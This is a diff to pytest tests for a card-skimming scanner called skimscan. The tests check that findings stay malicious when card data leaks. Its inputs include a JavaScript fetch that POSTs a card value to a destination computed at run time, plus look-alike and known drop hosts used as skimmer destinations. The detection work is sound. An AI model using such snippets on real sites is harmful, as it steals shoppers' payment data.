@@ -8,8 +8,6 @@ import pytest
 from skimscan.models import Severity, Verdict
 from skimscan.policy.cooccurrence import COOCCURRENCE_RULES
 
-from .conftest import findings_of
-
 VENDOR = "https://collect.vendor-x.example/c"
 # A fraud-style collector: it watches the card field and the pay button, and sends typing
 # timings, never the value.
@@ -47,13 +45,25 @@ def test_not_lowered_where_the_script_was_not_read_whole_or_hides(  # type: igno
     assert all("lowered_from" not in f.evidence for f in lowered(report)), why
 
 
-def test_a_data_path_is_never_lowered(analyze) -> None:  # type: ignore[no-untyped-def]
+def test_nothing_is_lowered_where_a_data_path_carries_the_card(analyze) -> None:  # type: ignore[no-untyped-def]
+    """The card reaches a sink (here the same host): the combinations stay as they are."""
     report = analyze(TIMINGS.replace("n: card.value.length", "n: card.value"))
     assert report.verdict is Verdict.MALICIOUS
-    [flow] = findings_of(report, "card-data-to-untrusted-host")
-    assert flow.severity is Severity.CRITICAL and "lowered_from" not in flow.evidence
+    assert lowered(report) and all("lowered_from" not in f.evidence for f in lowered(report))
 
 
-def test_a_known_bad_host_is_never_lowered(analyze) -> None:  # type: ignore[no-untyped-def]
-    report = analyze(TIMINGS.replace(VENDOR, "https://baways.com/c"))
+def test_nothing_is_lowered_where_the_card_goes_elsewhere(analyze) -> None:  # type: ignore[no-untyped-def]
+    """The vendor gets timings, but the card itself goes to a destination computed at run
+    time: the script is not one whose reads are accounted for."""
+    report = analyze(TIMINGS + "fetch(document.body.getAttribute('data-u'), "
+                               "{method: 'POST', body: card.value});\n")
+    assert all("lowered_from" not in f.evidence for f in lowered(report))
     assert report.verdict is Verdict.MALICIOUS
+
+
+@pytest.mark.parametrize("host", ["https://google-analytics-tag.com/c",  # look-alike
+                                  "https://baways.com/c"])  # a documented drop host
+def test_a_look_alike_or_known_bad_host_is_never_lowered(host: str, analyze) -> None:  # type: ignore[no-untyped-def]
+    report = analyze(TIMINGS.replace(VENDOR, host))
+    assert report.verdict is Verdict.MALICIOUS
+    assert lowered(report) and all("lowered_from" not in f.evidence for f in lowered(report))
